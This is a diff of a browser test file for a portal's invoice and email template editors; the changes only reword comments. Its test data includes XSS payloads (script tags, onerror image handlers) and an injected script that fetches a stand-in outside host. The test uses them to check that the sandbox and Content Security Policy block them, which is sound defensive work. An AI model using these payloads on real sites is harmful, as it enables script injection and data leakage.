@@ -7,10 +7,10 @@ import { makeCatalogue } from '../support/portal-data.js';
 import { call, type Answered } from '../support/service.js';
 import { startSmtp, type TestSmtp } from '../support/smtp.js';
 
-/** Every look of every page and dialog is held against axe. */
+/** axe checks every state of every page and dialog. */
 const LONG = { timeout: 400_000 };
 const DESK = { width: 1440, height: 900 };
-/** What of the page's DOM these tests touch. */
+/** The part of the page's DOM that these tests use. */
 interface Dom {
   getComputedStyle(element: unknown): { readonly color: string };
 }
@@ -24,12 +24,12 @@ interface Form {
   submit(): void;
 }
 
-/** The colour in which an element is really shown. */
+/** Returns the computed colour of an element. */
 const colourOf = (locator: Locator): Promise<string> =>
   locator.evaluate((element: unknown) => (globalThis as unknown as Dom).getComputedStyle(element).color);
 
 let smtp: TestSmtp;
-/** Another host, which must never hear of anything. */
+/** Another host, which must never receive anything. */
 let elsewhere: Server;
 const heard: string[] = [];
 beforeAll(async () => {
@@ -58,7 +58,7 @@ const api = (path: string, body?: unknown, method?: string): Promise<Answered> =
     ...(method === undefined ? {} : { method }),
   });
 
-/** Types into a source as a person pastes. */
+/** Fills a source field, like pasting. */
 async function paste(page: Page, label: string, value: string): Promise<void> {
   await page.getByLabel(label, { exact: true }).and(page.locator('textarea, input')).fill(value);
 }
@@ -91,7 +91,7 @@ describe.skipIf(!hasBrowser)('templates', () => {
 
       await page.getByLabel('Nombre', { exact: true }).fill(`<script>alert('n')</script>`);
       await page.getByLabel('Tamaño de la letra', { exact: false }).fill('99');
-      // While something is wrong the last good picture stays, and the field says what it is.
+      // During an error the last good preview stays, and the field shows the error.
       await page.getByText('Se muestra la última versión sin errores.').waitFor();
       await page.getByText('10', { exact: false }).first().waitFor();
       expect(await page.getByLabel('Tamaño de la letra', { exact: false }).getAttribute('aria-invalid')).toBe('true');
@@ -126,7 +126,7 @@ describe.skipIf(!hasBrowser)('templates', () => {
         { ruc: portal.demo.ruc, codDoc: '01', estab: null, ptoEmi: null },
       ]);
 
-      // Somebody else replaces it while this one types: nothing typed is lost.
+      // Somebody else replaces it meanwhile: nothing typed is lost.
       await page.getByLabel('Al pie').fill('Escrito a la vez');
       await api(`plantillas-ride/${after}`, { nombre: 'De otra', formato: 'A4', definicion: { version: 1 } }, 'PUT');
       await page.getByRole('button', { name: 'Guardar', exact: true }).click();
@@ -165,7 +165,7 @@ describe.skipIf(!hasBrowser)('templates', () => {
       await page.getByRole('link', { name: 'Breve' }).click();
       const heading = mailFrame(page).getByRole('heading', { name: 'Gracias, PERSONA DE EJEMPLO' });
       await heading.waitFor();
-      // A style attribute of the mail holds: the frame does not live under the portal's policy.
+      // The mail's style attribute works: the portal's policy does not apply to the frame.
       expect(await colourOf(heading)).toBe('rgb(27, 94, 32)');
       await expectAccessibleEverywhere(page);
       await page.setViewportSize(DESK);
@@ -216,7 +216,7 @@ describe.skipIf(!hasBrowser)('templates', () => {
       await page.keyboard.press('Escape');
       await trial.waitFor({ state: 'hidden' });
 
-      // Another tab, another person: what was typed stays, and is saved over it when one says so.
+      // Another tab, another user: what was typed stays, and overwrites only after confirmation.
       const id = made['plantillaCorreo'] ?? '';
       await api(`plantillas-email/${id}`, { asunto: 'De otra persona' }, 'PUT');
       await page.reload();
@@ -251,7 +251,7 @@ describe.skipIf(!hasBrowser)('templates', () => {
 <a id="tres" href="data:text/html,x" target="_self">tres</a>
 <svg><animate attributeName="href"></animate></svg>
 <table><tr>${'<td>celda</td>'.repeat(400)}</tr></table></body></html>`;
-    // The service advises against the rest and stores none of it: the frame is sent it all the same.
+    // The service warns about the rest and stores none of it; the frame gets it all the same.
     const worse = html.replace(
       '</body>',
       `<script>parent.document.title = 'mal'; fetch('${evil}/fetch'); alert(1)</script><img src=x onerror="alert(2)">
@@ -265,7 +265,7 @@ describe.skipIf(!hasBrowser)('templates', () => {
     await mailFrame(page).getByText('Factura 001-001-000000123').first().waitFor();
     await paste(page, 'Nombre', `"><img src=x onerror=alert(4)>`);
     await paste(page, 'HTML', worse);
-    // What the service refuses is told with its lines.
+    // The service's errors are shown with their lines.
     await page.getByRole('button', { name: 'los correos no llevan <script>', exact: false }).first().waitFor();
     await paste(page, 'HTML', html);
     await mailFrame(page).getByText('Presente').waitFor();
@@ -277,7 +277,7 @@ describe.skipIf(!hasBrowser)('templates', () => {
     await mailFrame(page).getByText('Presente').waitFor();
     expect(page.url()).toBe(`${portal.url}/portal/plantillas-correo/nueva`);
 
-    // The same words straight into the frame, past the service's advice.
+    // The same content straight into the frame, bypassing the service's check.
     await page.locator('form[action="/portal/marco"]').evaluate((form: unknown, content) => {
       (form as Form).querySelector('textarea').value = content;
       (form as Form).submit();
@@ -288,7 +288,7 @@ describe.skipIf(!hasBrowser)('templates', () => {
     expect(await page.title()).not.toContain('mal');
     expect(heard).toEqual([]);
     expect(page.context().pages()).toHaveLength(1);
-    // The browser says of each that it stopped it; nothing else went wrong, and nothing was heard elsewhere.
+    // The browser reports each blocked request; nothing else failed, and the other host received nothing.
     await closePage(page, /violates the following Content Security Policy|sandbox|elsewhere: http:\/\/127|refused/i);
   });
 
